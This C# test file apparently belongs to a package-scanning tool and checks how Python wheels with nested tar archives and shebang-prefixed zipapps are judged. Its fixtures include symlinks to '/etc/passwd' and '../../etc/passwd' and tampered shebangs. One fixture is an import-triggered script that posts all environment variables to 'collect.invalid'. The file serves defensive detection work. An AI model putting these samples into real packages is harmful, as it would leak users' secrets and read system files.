using System.Buffers.Binary;
using System.Text;
using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Archives;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>Archives in a package that are written in uncommon ways: plain where every reader finds the same in them, held where not.</summary>
public sealed class InnerArchiveTests
{
    private static InspectionReport Wheel(string path, byte[] content) => CatalogueInspection.Of(
        Ecosystem.PyPi, "zoned-1.0.0-py3-none-any.whl", new WheelBuilder("zoned", "1.0.0").File("zoned/__init__.py", "").File("zoned/" + path, content).Build());

    [Fact]
    public void The_second_name_of_a_file_is_that_file_again()
    {
        byte[] zones = new TarBuilder().Add(new TarRecord { Name = "America/Puerto_Rico", Content = "TZif2"u8.ToArray() })
            .Add(new TarRecord { Name = "America/Antigua", Type = '1', LinkName = "America/Puerto_Rico" }).End().ToGzip();
        InspectionReport report = Wheel("zones.tar.gz", zones);
        report.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(report));
        report.Files.ShouldBe(Wheel("zones.tar.gz", new TarBuilder().Add("a", "TZif2").Add("b", "TZif2").End().ToGzip()).Files, "whoever opens it by that name finds a file");
    }

    [Theory]
    [InlineData("first", true)]
    [InlineData("/etc/passwd", false)]
    public void Many_links_are_as_the_last_of_them(string last, bool isPlain)
    {
        TarBuilder inner = new TarBuilder().Add(new TarRecord { Name = "first", Content = "1"u8.ToArray() });
        for (int link = 0; link < 300; link++)
        {
            inner.Add(new TarRecord { Name = $"link{link}", Type = '1', LinkName = link == 299 ? last : "first" });
        }

        (Wheel("inner.tar.gz", inner.End().ToGzip()).Verdict == Verdict.Clean).ShouldBe(isPlain);
    }

    [Theory]
    [InlineData('1', "../../etc/passwd")]
    [InlineData('1', "later")]
    [InlineData('1', "/etc/passwd")]
    [InlineData('2', "first")]
    public void Any_other_link_holds(char type, string target)
    {
        byte[] inner = new TarBuilder().Add(new TarRecord { Name = "first", Content = "1"u8.ToArray() })
            .Add(new TarRecord { Name = "link", Type = type, LinkName = target }).Add(new TarRecord { Name = "later", Content = "2"u8.ToArray() }).End().ToGzip();
        Wheel("inner.tar.gz", inner).Verdict.ShouldNotBe(Verdict.Clean);
    }

    [Theory]
    [InlineData("#!/usr/bin/env python\n", false, false)]
    [InlineData("#!/usr/bin/env python3\n", true, false)]
    [InlineData("#!/usr/bin/python3.12\n", false, false)]
    [InlineData("#!/usr/bin/env -S python -c 'import x'\n", true, true)]
    [InlineData("#!/bin/sh\n", true, true)]
    [InlineData("#!/bin/sh\n", false, true)]
    [InlineData("#!/usr/bin/python -cimport\n", true, true)]
    [InlineData("#!/usr/bin/env python\nimport x\n", true, true)]
    [InlineData("#!/usr/bin/env pythonevil\n", true, true)]
    [InlineData("#!./bin/python\n", true, true)]
    [InlineData("#!/tmp/python\n", true, true)]
    [InlineData("#!/usr/bin/env bin/python\n", true, true)]
    [InlineData("#!/usr/bin/../../tmp/python\n", true, true)]
    [InlineData("GIF89a", false, true)]
    public void A_line_that_names_python_may_stand_before_an_application(string line, bool countsIt, bool holds)
    {
        byte[] zip = new NupkgBuilder("Inner", "1.0.0").File("__main__.py", "print(1)").Build();
        InspectionReport report = Wheel("tool.pyz", [.. Encoding.ASCII.GetBytes(line), .. countsIt ? Moved(zip, line.Length) : zip]);
        (report.Verdict != Verdict.Clean).ShouldBe(holds, CatalogueInspection.Told(report));
    }

    [Fact]
    public void The_artifact_itself_begins_with_a_zip()
    {
        byte[] wheel = [.. "#!/usr/bin/env python\n"u8, .. new WheelBuilder("zoned", "1.0.0").File("zoned/__init__.py", "").Build()];
        CatalogueInspection.Of(Ecosystem.PyPi, "zoned-1.0.0-py3-none-any.whl", wheel).Verdict.ShouldNotBe(Verdict.Clean);
    }

    [Fact]
    public void What_stands_behind_the_line_is_read()
    {
        byte[] zip = new NupkgBuilder("Inner", "1.0.0").File("__main__.py", "import os, json, urllib.request\nurllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n").Build();
        byte[] application = [.. "#!/usr/bin/env python\n"u8, .. zip];
        byte[] wheel = new WheelBuilder("zoned", "1.0.0").File("zoned/tool", application).File("zoned/__init__.py", "import os, subprocess, sys\nsubprocess.run([sys.executable, os.path.join(os.path.dirname(__file__), 'tool')])\n").Build();
        CatalogueInspection.Of(Ecosystem.PyPi, "zoned-1.0.0-py3-none-any.whl", wheel).Verdict.ShouldBe(Verdict.Malicious);
    }

    // Offsets counted from the start of the file, as who writes a zip behind a line does.
    private static byte[] Moved(byte[] zip, int by)
    {
        byte[] moved = [.. zip];
        for (int at = 0; at < moved.Length - 22; at++)
        {
            if (moved.AsSpan(at).StartsWith("PK\x01\x02"u8))
            {
                BinaryPrimitives.WriteUInt32LittleEndian(moved.AsSpan(at + 42), BinaryPrimitives.ReadUInt32LittleEndian(moved.AsSpan(at + 42)) + (uint)by);
            }
        }

        int end = moved.AsSpan().LastIndexOf("PK\x05\x06"u8);
        BinaryPrimitives.WriteUInt32LittleEndian(moved.AsSpan(end + 16), BinaryPrimitives.ReadUInt32LittleEndian(moved.AsSpan(end + 16)) + (uint)by);
        return moved;
    }
}
